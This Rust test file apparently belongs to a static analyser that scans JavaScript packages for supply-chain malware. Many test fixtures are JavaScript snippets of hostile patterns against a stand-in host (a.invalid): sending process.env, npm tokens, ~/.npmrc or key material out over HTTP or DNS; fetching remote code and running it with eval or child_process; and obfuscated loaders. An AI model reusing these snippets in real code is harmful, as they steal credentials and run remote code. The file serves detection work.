//! What a script's facts are: aliases, folding, decoding, nested code, shapes.

use crate::facts::Facts;
use crate::js::{Script, facts};
use crate::limits::Limits;
use crate::value::Value;

fn of(text: &str) -> Facts {
    let facts = facts(
        Script {
            path: "index.js",
            text,
        },
        &Limits::default(),
    );
    assert!(facts.hits.is_empty(), "{:?}", facts.hits);
    facts
}

fn shown(value: &Value) -> String {
    match value {
        Value::Undefined => "undefined".into(),
        Value::Null => "null".into(),
        Value::Boolean(value) => value.to_string(),
        Value::Number(value) => value.to_string(),
        Value::String(text) => format!("{text:?}"),
        Value::Regex(source) => format!("/{source}/"),
        Value::Array(items) => format!("[{}]", list(items)),
        Value::Object(members) => {
            let members: Vec<_> = members
                .iter()
                .map(|(key, value)| format!("{key}: {}", shown(value)))
                .collect();
            format!("{{{}}}", members.join(", "))
        }
        Value::Function(_) => "function".into(),
        Value::Path(path) => path.to_string(),
        Value::Concat(parts) => {
            let parts: Vec<_> = parts.iter().map(shown).collect();
            parts.join(" + ")
        }
        Value::Unknown => "?".into(),
    }
}

fn list(values: &[Value]) -> String {
    values.iter().map(shown).collect::<Vec<_>>().join(", ")
}

fn calls(text: &str) -> Vec<String> {
    of(text)
        .calls
        .iter()
        .filter(|call| &*call.callee != "require")
        .map(|call| {
            format!(
                "{}{}({})",
                if call.new { "new " } else { "" },
                call.callee,
                list(&call.args)
            )
        })
        .collect()
}

fn reads(text: &str) -> Vec<String> {
    of(text)
        .reads
        .iter()
        .map(|read| read.path.to_string())
        .collect()
}

fn writes(text: &str) -> Vec<String> {
    of(text)
        .writes
        .iter()
        .map(|write| write.path.to_string())
        .collect()
}

#[test]
fn modules_are_followed_through_names() {
    assert_eq!(
        calls("const { exec: run } = require('node:child_process'); run('id');"),
        ["child_process.exec(\"id\")"]
    );
    assert_eq!(
        calls(
            "import fs, { readFile as rf } from 'fs'; import * as h from 'https'; rf('/a'); fs.writeFileSync('/b', 1); h.get('https://a.invalid')"
        ),
        [
            "fs.readFile(\"/a\")",
            "fs.writeFileSync(\"/b\", 1)",
            "https.get(\"https://a.invalid\")"
        ]
    );
    assert_eq!(
        calls(
            "var f = require; var c = f('child' + '_process'); (0, c.exec)('id'); c['ex' + 'ec']('ls')"
        ),
        ["child_process.exec(\"id\")", "child_process.exec(\"ls\")"]
    );
    assert_eq!(
        calls(
            "var __toESM = (m, i) => { for (const k of Object.keys(m)) defineIt(k); return m }; var http = __toESM(require('http'), 1); http.default.request({ host: 'a.invalid' }).on('error', () => {})"
        ),
        [
            "Object.keys(?)",
            "defineIt(?)",
            "http.request({host: \"a.invalid\"})",
            "http.request().on(\"error\", function)"
        ]
    );
    assert_eq!(
        calls(
            "const http = await import('http'); http.get('x'); process.mainModule.require('fs').unlinkSync('x')"
        ),
        ["http.get(\"x\")", "fs.unlinkSync(\"x\")"]
    );
    assert_eq!(
        calls(
            "class A { constructor() { this.c = 1 } async go() { return fetch('https://a.invalid/' + this.c) } }"
        ),
        ["fetch(\"https://a.invalid/\" + ?)"]
    );
}

#[test]
fn the_global_object_has_many_names() {
    assert_eq!(
        calls(
            "window['fe' + 'tch']('u'); globalThis.eval; self.fetch.call(null, 'v'); fetch.apply(window, ['w'])"
        ),
        ["fetch(\"u\")", "fetch(\"v\")", "fetch(\"w\")"]
    );
    assert_eq!(
        calls("Function('return this')()['fetch']('u')")[1..],
        ["(return this)()", "fetch(\"u\")"]
    );
    assert_eq!(
        calls("[]['filter']['constructor']('alert(1)')()")[0],
        "Function(\"alert(1)\")"
    );
    assert_eq!(
        writes(
            "fetch = f; window.fetch = f; XMLHttpRequest.prototype.open = g; Object.defineProperty(window, 'ethereum', {})"
        ),
        [
            "fetch",
            "fetch",
            "XMLHttpRequest.prototype.open",
            "ethereum"
        ]
    );
    assert_eq!(
        writes("var fetch = 1; fetch = 2; exports.a = 1; module.exports = 2"),
        [""; 0]
    );
}

#[test]
fn environment_reads_tell_one_variable_from_all() {
    assert_eq!(
        reads("const { NPM_TOKEN, ...rest } = process.env"),
        ["process.env.NPM_TOKEN", "process.env"]
    );
    assert_eq!(
        reads("const e = process.env; e.HOME; e['PA' + 'TH']; e[x]"),
        ["process.env.HOME", "process.env.PATH", "process.env[]"]
    );
    assert_eq!(reads("send(JSON.stringify(process.env))"), ["process.env"]);
    assert_eq!(reads("const e = process.env; send(e)"), ["process.env"]);
}

#[test]
fn texts_are_decoded() {
    assert_eq!(
        calls("eval(atob('Y29uc29sZS5sb2coMSk='))")[..2],
        ["eval(\"console.log(1)\")", "console.log(1)"]
    );
    for (code, url) in [
        (
            "fetch(Buffer.from('aHR0cHM6Ly9hLmludmFsaWQ=', 'base64').toString('utf8'))",
            "https://a.invalid",
        ),
        ("fetch(String.fromCharCode(104, 116, 116, 112))", "http"),
        (
            "fetch('dilavni.a//:sptth'.split('').reverse().join(''))",
            "https://a.invalid",
        ),
        (
            "fetch(['ht', 'tps:', '//a.invalid'].join(''))",
            "https://a.invalid",
        ),
        (
            "const x = [104, 116].map(c => String.fromCharCode(c)).join(''); fetch(x)",
            "ht",
        ),
        (
            "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k); return o } fetch(d('igg', 1))",
            "hff",
        ),
    ] {
        let found = of(code);
        let call = found
            .calls
            .iter()
            .find(|call| &*call.callee == "fetch")
            .unwrap();
        assert_eq!(call.args[0].text(), Some(url), "{code}");
        assert!(call.decoded, "{code}");
    }
    let facts = of("const hidden = '\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f'");
    assert!(
        facts
            .strings
            .iter()
            .any(|text| &*text.text == "https://" && text.decoded)
    );
}

#[test]
fn a_rotated_string_array_is_read_through_its_accessor() {
    let code = r#"
        const _0x1a2b = _0x3c4d;
        (function (_0x5e, _0x6f) {
            const _0x7a = _0x3c4d, _0x8b = _0x5e();
            while (!![]) {
                try {
                    const _0x9c = parseInt(_0x7a(0x102)) / 0x1 + parseInt(_0x7a(0x100)) / 0x2;
                    if (_0x9c === _0x6f) break;
                    else _0x8b['push'](_0x8b['shift']());
                } catch (_0xad) {
                    _0x8b['push'](_0x8b['shift']());
                }
            }
        }(_0xbeef, 0xe));
        function _0x3c4d(_0x1, _0x2) {
            const _0x3 = _0xbeef();
            return _0x3c4d = function (_0x4, _0x5) {
                _0x4 = _0x4 - 0x100;
                let _0x6 = _0x3[_0x4];
                return _0x6;
            }, _0x3c4d(_0x1, _0x2);
        }
        function _0xbeef() {
            const _0x9 = ['fetch', '12twelve', 'https://a.invalid/', '4four'];
            _0xbeef = function () { return _0x9; };
            return _0xbeef();
        }
        window[_0x1a2b(0x101)](_0x1a2b(0x103));
    "#;
    // The sum 12 / 1 + 4 / 2 is reached after three turns.
    let calls = calls(code);
    assert!(
        calls
            .iter()
            .any(|call| call.contains("fetch(\"https://a.invalid/\")")),
        "{calls:?}"
    );
}

#[test]
fn operators_hidden_in_objects_are_followed() {
    let code = "const o = { call: function (f, a) { return f(a) }, join: function (a, b) { return a + b }, u: 'https://' };
        o.call(fetch, o.join(o.u, 'a.invalid'))";
    assert_eq!(calls(code), ["fetch(\"https://a.invalid\")"]);
}

#[test]
fn more_code_in_strings_than_is_followed_is_told() {
    let text = |many: usize| -> String {
        (0..many)
            .map(|at| format!("eval(\"again({at})\");"))
            .collect()
    };
    let of_many = |many| {
        let (path, text) = ("index.js", &text(many));
        facts(Script { path, text }, &Limits::default())
    };
    assert!(of_many(200).hits.is_empty());
    let cut = of_many(201);
    assert_eq!(cut.hits.len(), 1);
    assert_eq!(&*cut.hits[0].why, "more than 200 pieces of code in strings");
}

#[test]
fn code_in_strings_is_code_of_the_file() {
    let found = calls("const F = (async () => {}).constructor; new F('a', 'await fetch(a)')");
    assert!(
        found.iter().any(|call| call.contains("fetch(")),
        "{found:?}"
    );
    let found = calls("new Function('a', 'return require(\"child_process\").execSync(a)')");
    assert_eq!(found[1], "child_process.execSync(undefined)");
    let nested = of("eval(\"eval(\\\"fetch('u')\\\")\")");
    assert_eq!(nested.calls.last().unwrap().function, 2);
    assert_eq!(nested.functions[2].nested, 2);
}

#[test]
fn the_constructor_of_functions_has_many_ways() {
    for code in [
        "const Kind = Object.getPrototypeOf(async function () {}).constructor; new Kind('fetch(1)')()",
        "(() => {}).constructor('fetch(1)')()",
        "''.constructor.constructor('fetch(1)')()",
    ] {
        assert!(calls(code).iter().any(|call| call == "fetch(1)"), "{code}");
    }
}

#[test]
fn shapes_survive_new_names() {
    let shape = |text: &str| of(text).functions[1].shape;
    assert_eq!(
        shape("function send(url, body) { return fetch(url, { method: 'POST', body: body }) }"),
        shape("function a(b,c){return fetch(b,{method:'POST',body:c})}")
    );
    assert_ne!(
        shape("function a() { fetch('x') }"),
        shape("function a() { fetch('y') }")
    );
}

#[test]
fn fields_are_what_is_put_there_once() {
    assert_eq!(
        calls(
            "class A { #b = 'https://b.invalid'; constructor() { this.a = 'https://a.invalid'; this.n = 1 } go() { fetch(this.a); fetch(this.#b); fetch(this.n) } }"
        ),
        [
            "fetch(\"https://a.invalid\")",
            "fetch(\"https://b.invalid\")",
            "fetch(?)"
        ]
    );
    assert_eq!(
        calls(
            "class A { constructor() { this.a = 'https://a.invalid' } } class B { constructor(a) { this.a = 'https://b.invalid' } go() { fetch(this.a) } }"
        ),
        ["fetch(\"https://b.invalid\")"]
    );
}

#[test]
fn endless_loops_are_told_where_they_run() {
    assert_eq!(of("for (;;) { console.log('x') }").loops.len(), 1);
    assert_eq!(
        of("(function () { while (true) { work() } })()")
            .loops
            .len(),
        1
    );
    assert_eq!(of("while (true) { if (done()) break; }").loops.len(), 0);
    assert_eq!(
        of("export async function poll() { while (true) { await tick() } }")
            .loops
            .len(),
        0
    );
    assert_eq!(of("function later() { for (;;) {} }").loops.len(), 0);
}

#[test]
fn what_is_not_javascript_is_told() {
    let facts = facts(
        Script {
            path: "a.js",
            text: "this is ( not",
        },
        &Limits::default(),
    );
    assert_eq!(facts.hits.len(), 1);
}

fn flows(text: &str) -> Vec<String> {
    of(text)
        .flows
        .iter()
        .map(|flow| {
            let encoded = if flow.encoded { " encoded" } else { "" };
            format!(
                "{:?} {} -> {:?} {}{encoded}",
                flow.source, flow.from, flow.sink, flow.to
            )
        })
        .collect()
}

#[test]
fn data_is_followed_to_where_it_leaves() {
    assert_eq!(
        flows("fetch('https://a.invalid/?' + process.env.NPM_TOKEN)"),
        ["Variable process.env.NPM_TOKEN -> Url fetch"]
    );
    assert_eq!(
        flows(
            "const body = JSON.stringify(process.env); const r = require('https').request({ hostname: 'a.invalid', method: 'POST' }); r.write(body); r.end()"
        ),
        ["Environment process.env -> Body https.request().write encoded"]
    );
    assert_eq!(
        flows("const fs = require('fs'), path = require('path'), os = require('os'), axios = require('axios');
            const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
            axios.post('https://a.invalid', { rc })"),
        ["SecretFile fs.readFileSync(\"~/.npmrc\") -> Body axios.post"]
    );
    assert_eq!(
        flows(
            "export function check(seed) { fetch('https://a.invalid', { headers: { 'x-id': seed } }) }"
        ),
        ["KeyMaterial parameter seed -> Header fetch"]
    );
    assert_eq!(
        flows(
            "require('https').get('https://a.invalid', res => { let s = ''; res.on('data', d => s += d); res.on('end', () => eval(s)) })"
        ),
        ["Network https.get -> Code eval"]
    );
    assert_eq!(
        flows("fetch('https://a.invalid').then(r => r.text()).then(code => new Function(code)())"),
        ["Network fetch -> Code Function"]
    );
    assert_eq!(
        flows(
            "async function go() { const r = await fetch('u'); const t = await r.text(); require('child_process').exec(t) } go()"
        ),
        ["Network fetch -> Process child_process.exec"]
    );
}

#[test]
fn functions_classes_and_events_do_not_hide_data() {
    assert_eq!(
        flows(
            "function send(what) { fetch('https://a.invalid', { method: 'POST', body: what }) } send(process.env)"
        ),
        ["Environment process.env -> Body fetch"]
    );
    assert_eq!(
        flows(
            "class Box { constructor(s) { this.s = s } flush() { fetch('https://a.invalid', { body: this.s }) } put(s) { this.s = s } } const b = new Box(); b.put(process.env); b.flush()"
        ),
        ["Environment process.env -> Body fetch"]
    );
    assert_eq!(
        flows(
            "const e = new (require('events'))(); e.on('found', d => fetch('https://a.invalid', { body: d })); e.emit('found', process.env)"
        ),
        ["Environment process.env -> Body fetch"]
    );
    assert_eq!(
        flows(
            "const all = []; for (const k in process.env) all.push(process.env[k]); fetch('https://a.invalid', { body: all.join() })"
        ),
        ["Environment process.env[] -> Body fetch"]
    );
    assert_eq!(
        flows("require('dns').lookup(require('os').hostname() + '.a.invalid', () => {})"),
        ["Host os.hostname() -> Dns dns.lookup"]
    );
}

#[test]
fn what_is_spelled_in_an_alphabet_is_the_same_data() {
    assert_eq!(
        flows(
            "const digits = 'abcdefghijklmnopqrstuvwxyz234567';
            function label(bytes) { let bits = 0, value = 0, out = ''; for (const byte of bytes) { value = value << 8 | byte; bits += 8; while (bits >= 5) { bits -= 5; out += digits[value >>> bits & 31] } } return out }
            exports.prefer = seed => require('dns').resolveTxt(label(seed) + '.a.invalid', () => {})"
        ),
        ["KeyMaterial parameter seed -> Dns dns.resolveTxt encoded"]
    );
}

#[test]
fn where_wallets_are_at_work_a_secret_is_a_key_and_a_signature_is_none() {
    assert_eq!(
        flows(
            "import { secp256k1 } from '@noble/curves/secp256k1'
            export const probe = secret => fetch('https://a.invalid', { body: secret.map(byte => byte ^ 7) })"
        ),
        ["KeyMaterial parameter secret -> Body fetch"]
    );
    assert_eq!(
        flows(
            "import { secp256k1 } from '@noble/curves/secp256k1'
            export const send = (hash, secret) => fetch('https://a.invalid', { body: secp256k1.sign(hash, secret).toCompactHex() })"
        ),
        [""; 0]
    );
    assert_eq!(
        flows("export const send = secret => fetch('https://a.invalid', { body: secret })"),
        [""; 0],
        "anybody's secret of a service"
    );
}

#[test]
fn bytes_that_a_key_turns_are_a_blob() {
    assert_eq!(
        flows(
            "const fs = require('fs'), Module = require('module');
            exports.hydrate = file => { const rest = fs.readFileSync(file), key = rest.subarray(0, 4);
            const text = Buffer.from(rest.map((b, i) => b ^ key[i & 3])).toString();
            new Module(file)._compile(text, file) }"
        ),
        [
            "File fs.readFileSync(\"\") -> Code module()._compile encoded",
            "Blob Buffer.from().toString() of bytes ^ a key -> Code module()._compile encoded"
        ]
    );
}

#[test]
fn what_does_not_flow_is_not_told() {
    assert_eq!(
        flows("const t = process.env.NPM_TOKEN; log(t); fetch('https://a.invalid')"),
        [""; 0]
    );
    assert_eq!(
        flows("if (process.env.DEBUG) fetch('https://a.invalid')"),
        [""; 0]
    );
    assert_eq!(
        flows("const o = { url: 'https://a.invalid', secret: process.env.KEY }; fetch(o.url)"),
        [""; 0]
    );
    assert_eq!(
        flows("const r = await fetch('u'); console.log(await r.json())"),
        [""; 0]
    );
}

#[test]
fn what_is_fetched_and_run_later_is_told() {
    assert_eq!(
        flows(
            "const fs = require('fs'), cp = require('child_process'); require('https').get('u', res => { const f = '/tmp/x'; res.pipe(fs.createWriteStream(f)); cp.spawn(f) })"
        ),
        ["Network https.get -> RunFile fs.createWriteStream().pipe"]
    );
}

#[test]
fn functions_that_run_at_once_are_known() {
    let running = |text: &str| -> Vec<String> {
        let facts = of(text);
        let running = facts
            .functions
            .iter()
            .skip(1)
            .filter(|function| function.runs);
        running.map(|function| function.name.to_string()).collect()
    };
    assert_eq!(
        running(
            "function a() { b() } const b = () => setTimeout(c, 1); function c() {} function d() {} a();"
        ),
        ["a", "b", "c"]
    );
    assert_eq!(
        running("exports.a = function a() { b() }; function b() {}"),
        [""; 0]
    );
    assert_eq!(
        running("(async function a() { await b() })(); async function b() {}"),
        ["a", "b"]
    );
    assert_eq!(running("start().then(function a() {}); new (class { constructor() { this.run() } run() {} })();").len(), 3);
}

#[test]
fn a_sum_may_be_as_long_as_it_likes() {
    let parts: Vec<String> = "https://a.invalid/"
        .chars()
        .cycle()
        .take(9_000)
        .map(|c| format!("{:?}", c.to_string()))
        .collect();
    let code = format!("fetch({})", parts.join(" + "));
    // The parser goes as deep as the sum is long: the worker's stack is large.
    let length = std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || of(&code).calls[0].args[0].text().map(str::len))
        .unwrap()
        .join()
        .unwrap();
    assert_eq!(length, Some(9_000));
}

#[test]
fn a_text_that_ends_early_for_the_parser_is_not_read() {
    let hits = |text| {
        let path = "a.js";
        facts(Script { path, text }, &Limits::default()).hits.len()
    };
    for text in [
        "\u{fffd}PNG\r\n",
        "run();\n\u{fffd} fetch('https://a.invalid')",
        "# Words\n\nand more",
    ] {
        assert_eq!(hits(text), 1, "{text:?}");
    }
    for text in [
        "let a = 1; let a = 2; // twice\n /* end */ ",
        "#!/usr/bin/env node\n",
        "// \u{fffd}\n",
        "",
    ] {
        assert_eq!(hits(text), 0, "{text:?}");
    }
}
